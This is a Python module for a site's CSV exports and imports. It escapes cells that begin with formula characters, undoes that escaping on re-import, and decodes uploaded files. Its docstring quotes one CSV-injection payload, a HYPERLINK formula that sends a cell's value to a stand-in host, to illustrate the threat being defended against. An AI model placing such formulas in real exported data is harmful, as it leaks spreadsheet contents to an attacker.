"""CSV cells a spreadsheet cannot run, and CSV files Excel reads as they were meant.

Every CSV the site writes (the public export and the editors' price export) goes through
``cell()``: a spreadsheet treats a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return as a formula, so a saved value such as
``=HYPERLINK("https://evil.example/?x="&A1,"x")`` would run on whoever opens the file.
Such cells get a leading apostrophe, OWASP's advice, which spreadsheets show as text.
Plain numbers (``-12.50``) are left alone: they are values, not formulas, and a numeric
column must stay numeric. ``restore()`` undoes exactly what ``cell()`` added, so a file
exported and imported again changes nothing.
"""

import re

# Excel opens UTF-8 correctly only with a byte-order mark; without it "–" becomes "â€“".
BOM = "\ufeff"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def cell(value) -> str:
    """One value as a CSV cell: None is empty, formulas are neutralised."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore(text):
    """The inverse of ``cell()`` for text read back from a CSV file."""
    if isinstance(text, str) and text.startswith("'") and cell(text[1:]) == text:
        return text[1:]
    return text


class UnreadableFile(ValueError):
    """The upload is not text in an encoding we accept; the message says so plainly."""


def decode(data: bytes) -> str:
    """A CSV file's text: UTF-8 (with or without BOM) or Windows-1252 (Excel's default).

    Anything else, such as UTF-16 ("Unicode text" in Excel) or a binary file, is refused
    with a message an editor can act on, rather than decoded into nonsense.
    """
    if isinstance(data, str):
        return data.removeprefix(BOM)
    if data.startswith((b"\xff\xfe", b"\xfe\xff")) or b"\x00" in data:
        raise UnreadableFile(
            "This file is not plain text (it looks like UTF-16 or a binary file). "
            "Save it as “CSV UTF-8 (comma delimited)” and upload it again."
        )
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        try:
            text = data.decode("cp1252")
        except UnicodeDecodeError:
            raise UnreadableFile(
                "This file is neither UTF-8 nor Windows-1252 text. "
                "Save it as “CSV UTF-8 (comma delimited)” and upload it again."
            ) from None
    if any(ord(c) < 32 and c not in "\t\r\n" for c in text):
        raise UnreadableFile(
            "This file contains control characters, so it is not a CSV text file. "
            "Save it as “CSV UTF-8 (comma delimited)” and upload it again."
        )
    return text
